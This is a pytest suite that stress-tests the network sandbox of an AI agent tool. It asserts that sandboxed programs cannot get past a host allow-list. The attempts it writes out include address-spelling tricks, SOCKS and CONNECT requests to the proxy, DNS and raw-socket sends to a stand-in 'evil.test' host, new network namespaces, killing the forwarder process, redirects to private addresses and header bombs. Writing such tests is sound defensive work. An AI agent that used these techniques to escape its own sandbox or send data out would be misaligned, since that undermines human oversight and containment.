"""Attacks on the allow-list of hosts: what a sandboxed program tries in order to reach another one gets nowhere."""

import socket
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.scene import acts, attack
from tests.sandbox.network.inside import Inside, fetch, inside
from tests.sandbox.network.servers import read_head, serving

PROXY = "import os, socket; host, port = os.environ['HTTP_PROXY'].removeprefix('http://').split(':')\n"
DIRECT = "import urllib.request as r; r.install_opener(r.build_opener(r.ProxyHandler({})))\n"


def say(sent: str) -> str:
    """A Python program that sends something to the proxy and prints what comes back."""
    return (
        f"{PROXY}made = socket.create_connection((host, int(port))); made.settimeout(20); made.sendall({sent})\n"
        "print(b''.join(iter(lambda: made.recv(4096), b'')))"
    )


def carried_out(made: Any) -> str:
    """What the programmer's commands have written."""
    return str((made.run.wd / "result.txt").read_text(encoding="utf-8"))


def test_a_run_with_an_allow_list_reaches_what_is_on_it_and_tells_of_all_else() -> None:
    """Finding 20, and the whole way: real terminals, the journal, the report, the line that would allow a host."""
    with serving() as good, serving() as other, attack() as made:
        code = (
            f"{fetch(f'http://127.0.0.1:{good}/')}\n{fetch(f'http://127.0.0.1:{other}/')}\n"
            f"os.environ['no_proxy'] = ''\n{fetch(f'http://127.0.0.1:{other}/')}\n{fetch('http://127.0.0.1:1/')}\n"
            f"{fetch('http://secret-in-a-name.evil.test/')}\n{fetch('http://secret-in-a-name.evil.test/')}"
        )
        (made.run.wd / "attack.py").write_text(f"import os\n{code}\n", encoding="utf-8")
        made.run.git("add", "-A")
        made.run.git("commit", "-qm", "x")
        order = "python3 attack.py > result.txt 2>&1"
        settings = {"SANDBOX_NETWORK": "allow", "SANDBOX_DOMAINS": f"127.0.0.1:{good}"}
        made.carry_out({"programmer": [order]}, **settings)
        assert made.code == 0, made.evidence
        said = carried_out(made)
        assert said.count("Host: 127.0.0.1") == 1, said
        assert "Connection refused" in said
        assert f"127.0.0.1:{other} is not allowed" in said
        events = {f"{one['host']}:{one['port']}": one for one in made.events("host_refused")}
        name = "secret-in-a-name.evil.test:80"
        assert events.keys() == {f"127.0.0.1:{other}", "127.0.0.1:1", name}
        assert {(one["role"], one["times"]) for one in events.values()} == {("programmer", 1), ("programmer", 2)}
        line = f"SANDBOX_DOMAINS=127.0.0.1:{good},{name}"
        assert events[name]["allow"] == line
        assert line in (made.run.folder / "report.md").read_text(encoding="utf-8").replace("\\", "")
        assert line in made.said.replace("\n", "")


def refused_by_proxy(made: Inside, target: str) -> None:
    """Ask for a host in every way that the proxy knows."""
    host, _, port = target.rpartition(":")
    name = host.strip("[]").encode()
    socks = b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + int(port).to_bytes(2, "big")
    assert "403 Forbidden" in made.python(say(repr(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())))
    assert "403 Forbidden" in made.python(say(repr(f"GET http://{target}/ HTTP/1.1\r\n\r\n".encode())))
    assert r"\x05\x00\x05\x02" in made.python(say(repr(socks)))


def test_another_port_and_another_host_are_refused(tmp_path: Path) -> None:
    with serving() as good, serving() as other, inside(tmp_path, f"127.0.0.1:{good}") as made:
        assert "refused" in made.python(fetch(f"http://127.0.0.1:{other}/"))
        refused_by_proxy(made, f"127.0.0.1:{other}")
        assert made.refused == {f"127.0.0.1:{other}": 3}


@pytest.mark.attacks
@pytest.mark.parametrize(
    "spelling", ["127.1", "0x7f.1", "2130706433", "0177.0.0.1", "localhost", "[::ffff:127.0.0.1]", "[::1]"]
)
def test_another_spelling_of_an_address_is_refused(tmp_path: Path, spelling: str) -> None:
    with serving() as good, serving() as other, inside(tmp_path, f"127.0.0.1:{good}") as made:
        refused_by_proxy(made, f"{spelling}:{other}")
        assert sum(made.refused.values()) == 3


def test_no_packet_leaves_but_through_the_proxy(tmp_path: Path) -> None:
    """Name servers, UDP, IPv6, raw sockets: the sandbox has no interface that they could leave by."""
    code = """
import socket
def attempt(name, *kind, to):
    try:
        made = socket.socket(*kind); made.settimeout(5)
        made.connect(to) if kind[1] == socket.SOCK_STREAM else made.sendto(b'x', to)
        print(name, 'SENT')
    except OSError as error:
        print(name, error)
attempt('dns', socket.AF_INET, socket.SOCK_DGRAM, to=('192.0.2.1', 53))
attempt('tcp', socket.AF_INET, socket.SOCK_STREAM, to=('192.0.2.1', 443))
attempt('v6', socket.AF_INET6, socket.SOCK_STREAM, to=('2001:db8::1', 443))
attempt('udp6', socket.AF_INET6, socket.SOCK_DGRAM, to=('2001:db8::1', 53))
attempt('raw', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, to=('127.0.0.1', 0))
attempt('packet', socket.AF_PACKET, socket.SOCK_RAW, to=('lo', 0))
try: print('name', socket.getaddrinfo('secret.evil.test', 80))
except OSError as error: print('name', error)
print([name for _, name in socket.if_nameindex()])
"""
    with inside(tmp_path, "good.test") as made:
        said = made.python(code)
        assert "SENT" not in said, said
        assert said.count("Network is unreachable") == 4, said
        assert said.count("Operation not permitted") == 2, said
        assert said.endswith("['lo']")


@pytest.mark.parametrize("network", ["allow", "none"])
def test_an_abstract_socket_of_the_machine_is_out_of_reach(tmp_path: Path, network: str) -> None:
    """Finding 20. With all of the network it can be reached, which is why the test begins with that."""
    name = f"\0quintet-{tmp_path}"
    connect = f"import socket; socket.socket(socket.AF_UNIX).connect({name!r}); print('CONNECTED')"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(name)
        listener.listen()
        with inside(tmp_path, network="keep") as made:
            assert made.python(connect) == "CONNECTED"
        with inside(tmp_path, network=network) as made:
            assert "Connection refused" in made.python(connect)


@pytest.mark.attacks
@pytest.mark.parametrize("network", ["allow", "none"])
def test_the_sockets_of_services_are_out_of_reach(tmp_path: Path, network: str) -> None:
    """A resolver, a bus or a database of the machine would reach the network for a program that cannot."""
    look = (
        "import os, stat\n"
        "for top in ('/run', '/var/lib', '/srv', '/etc'):\n"
        "  for folder, _, names in os.walk(top):\n"
        "    if folder != '/run/quintet':\n"
        "      for name in names:\n"
        "        try:\n"
        "          if stat.S_ISSOCK(os.lstat(f'{folder}/{name}').st_mode): print(folder, name)\n"
        "        except OSError: pass\n"
        "print('looked')"
    )
    with inside(tmp_path, network=network) as made:
        assert made.python(look) == "looked"


@pytest.mark.attacks
def test_the_socket_of_the_proxy_gives_no_more_than_the_proxy(tmp_path: Path) -> None:
    """It can be asked without the forwarder, but neither replaced nor removed, and its rules cannot be seen."""
    with serving() as other, inside(tmp_path, "good.test") as made:
        code = (
            "import os, socket; made = socket.socket(socket.AF_UNIX); made.connect('/run/quintet/proxy')\n"
            f"made.sendall(b'CONNECT 127.0.0.1:{other} HTTP/1.1\\r\\n\\r\\n'); print(made.recv(4096))\n"
            "print(os.listdir('/run/quintet'))\n"
            "try: os.unlink('/run/quintet/proxy'); print('REMOVED')\n"
            "except OSError as error: print(error.strerror)"
        )
        lines = made.python(code).splitlines()
        assert "403 Forbidden" in lines[0]
        assert lines[1:] == ["['proxy']", "Read-only file system"]


def test_a_redirect_to_a_private_address_ends_at_the_proxy(tmp_path: Path) -> None:
    with serving() as other:

        def redirect(connection: socket.socket) -> None:
            read_head(connection)
            connection.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.2:%d/\r\n\r\n" % other)

        with serving(redirect) as good, inside(tmp_path, f"127.0.0.1:{good}") as made:
            said = made.python(f"import os; os.environ['no_proxy'] = ''\n{fetch(f'http://127.0.0.1:{good}/')}")
            assert said.startswith("403 ")
            assert made.refused == {f"127.0.0.2:{other}": 1}


@pytest.mark.attacks
def test_a_host_header_that_differs_leads_nowhere_else(tmp_path: Path) -> None:
    with serving() as good, serving() as other, inside(tmp_path, f"127.0.0.1:{good}") as made:
        head = f"GET http://127.0.0.1:{good}/ HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n"
        said = made.python(say(repr(head.encode())))
        assert f"Host: 127.0.0.1:{good}" in said
        assert str(other) not in said
        head = f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\nHost: 127.0.0.1:{good}\r\n\r\n"
        assert "403 Forbidden" in made.python(say(repr(head.encode())))


@pytest.mark.attacks
@pytest.mark.parametrize(
    "sent", ["b'GET http://good.test/ HTTP/1.1\\r\\nX: ' + b'x' * 10**7", "b'x' * 10**7", "b'\\r\\n' * 10**6"]
)
def test_a_header_bomb_does_not_hurt_the_proxy(tmp_path: Path, sent: str) -> None:
    with serving() as good, inside(tmp_path, f"127.0.0.1:{good}") as made:
        bomb = f"try:\n  {say(sent).replace(chr(10), chr(10) + '  ')}\nexcept OSError as error: print(error)"
        assert "200" not in made.python(bomb)
        assert "Host: 127.0.0.1" in made.python(fetch(f"http://127.0.0.1:{good}/"))


@pytest.mark.attacks
def test_many_connections_of_one_sandbox_leave_the_others_theirs(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    with (
        serving() as good,
        inside(tmp_path / "a", f"127.0.0.1:{good}") as made,
        inside(tmp_path / "b", f"127.0.0.1:{good}") as honest,
    ):
        flood = f"{PROXY}kept = [socket.create_connection((host, int(port))) for _ in range(300)]; print(len(kept))"
        assert made.python(flood) == "300"
        assert "Host: 127.0.0.1" in honest.python(fetch(f"http://127.0.0.1:{good}/"))
        assert "Host: 127.0.0.1" in made.python(fetch(f"http://127.0.0.1:{good}/"))


@pytest.mark.attacks
def test_a_namespace_of_the_programs_own_leads_nowhere(tmp_path: Path) -> None:
    code = (
        "import os, socket\n"
        "try: os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNET)\n"
        "except OSError as error: print(error.strerror)\n"
        "try: socket.create_connection(('192.0.2.1', 443), 5); print('CONNECTED')\n"
        "except OSError as error: print(error.strerror)"
    )
    if sys.version_info < (3, 12):  # os.unshare
        code = code.replace(
            "os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNET)",
            "print(__import__('ctypes').CDLL(None).unshare(0x10000000 | 0x40000000))",
        )
    with inside(tmp_path, "good.test") as made:
        assert made.python(code).endswith("Network is unreachable")


def test_an_agent_that_ends_the_forwarder_only_loses_its_own_network(tmp_path: Path) -> None:
    code = (
        "import os, signal\n"
        "for name in os.listdir('/proc'):\n"
        "  if name.isdecimal() and int(name) not in (1, os.getpid()):\n"
        "    if b'forwarder.py' in open(f'/proc/{name}/cmdline', 'rb').read(): os.kill(int(name), signal.SIGKILL)\n"
    )
    with serving() as good, inside(tmp_path, f"127.0.0.1:{good}") as made:
        assert "refused" in made.python(code + fetch(f"http://127.0.0.1:{good}/"))
        assert "Host:" in made.python(fetch(f"http://127.0.0.1:{good}/")), "another program has its own"


@pytest.mark.attacks
def test_a_run_that_was_killed_continues_with_the_same_hosts() -> None:
    """Honest: the agent lives on without its server, and reaches its hosts again when another one has taken over."""
    with serving() as good, attack() as made:
        wait = f"until test -e go; do sleep 0.1; done; {sys.executable} fetch.py > result.txt 2>&1"
        (made.run.wd / "fetch.py").write_text(fetch(f"http://127.0.0.1:{good}/") + "\n", encoding="utf-8")
        made.run.git("add", "-A")
        made.run.git("commit", "-qm", "x")
        made.run.script(acts({"programmer": [wait]}))
        settings = {
            "SANDBOX": "on",
            "SANDBOX_SHOW": str(made.run.root / "scenario.json"),
            "SANDBOX_NETWORK": "allow",
            "SANDBOX_DOMAINS": f"127.0.0.1:{good}",
            "CLEANUP_ON_EXIT": "1",
        }
        first = made.run.start("run", "--plain", **settings)
        made.run.until_there("*/journal.jsonl")
        asked = "programmer"
        made.run.until(
            lambda: [one for one in made.run.journal if one["event"] == "prompt_sent" and one["role"] == asked]
        )
        first.kill()
        first.communicate()
        second = made.run.start("run", "--plain", **settings)
        made.run.until(lambda: [one for one in made.run.journal if one["event"] == "run_resumed"])
        (made.run.wd / "go").touch()
        said, _ = second.communicate(timeout=90)
        assert second.returncode == 0, said
        created = [one for one in made.run.journal if one["event"] == "terminal_created" and one["role"] == asked]
        assert len(created) == 1, "its terminal went on"
        assert "Host: 127.0.0.1" in carried_out(made)
